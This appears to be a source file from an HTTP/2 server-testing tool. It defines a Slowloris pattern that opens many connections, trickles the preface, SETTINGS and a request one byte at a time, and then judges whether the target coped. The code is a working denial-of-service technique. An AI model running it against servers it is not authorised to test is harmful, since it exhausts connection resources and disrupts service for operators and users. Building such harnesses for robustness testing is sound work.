/**
 * Slowloris over HTTP/2: many connections, each sending its preface, SETTINGS and a request one byte at
 * a time, never finishing within the hold — the target holds a connection (and whatever it reserves per
 * connection) for each.
 */
import { CLIENT_PREFACE, Setting, settingsFrame } from '../../h2/frames.ts';
import { sleep } from '../budget.ts';
import { Engagement } from '../engagement.ts';
import { headersFrame, requestBlock } from '../frames.ts';
import { answer, notDelivered } from './answers.ts';
import { definePattern } from './types.ts';

export default definePattern({
  id: 'slowloris',
  title: 'Slowloris',
  cve: null,
  year: 2009,
  summary: 'many connections sending preface, SETTINGS and a request one byte per interval',
  expected: 'nothing to answer; slow clients must not starve the others, and the target may close them (preface / idle timeouts)',
  rfc: 'RFC 9113 §3.4, §10.5',
  defaults: { connections: 100, byteIntervalMs: 50, holdMs: 3000 },
  scaled: ['connections'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'bytes, one at a time', 0);
    const bytes = Buffer.concat([
      CLIENT_PREFACE,
      settingsFrame([[Setting.ENABLE_PUSH, 0]]),
      headersFrame(1, requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small }), { endStream: true, endHeaders: true }),
    ]);
    const peers = await e.openMany(p.connections, { preface: false });
    const rounds = Math.min(bytes.length, Math.floor(p.holdMs / Math.max(1, p.byteIntervalMs)));
    e.unitsPlanned = peers.length * rounds;
    const until = performance.now() + Math.min(p.holdMs, ctx.budget.remainingMs);
    let sent = 0;
    for (let i = 0; i < rounds && performance.now() < until; i++) {
      for (const peer of peers) if (peer.writeRaw(bytes.subarray(i, i + 1), ctx.budget)) sent++;
      await sleep(p.byteIntervalMs);
    }
    e.unitsPlanned = sent;
    e.addUnits(sent, 'held');
    // the rest of the hold, if the bytes ran out first
    await sleep(until - performance.now());
    return e.finish();
  },
  judge(o) {
    if (o.targetProtocolErrors.length > 0) return answer('unexpected', o, 'the target broke the protocol while answering');
    return notDelivered(o) ?? answer('expected', o, 'no answer is owed; what the slow connections cost shows in goodput');
  },
});
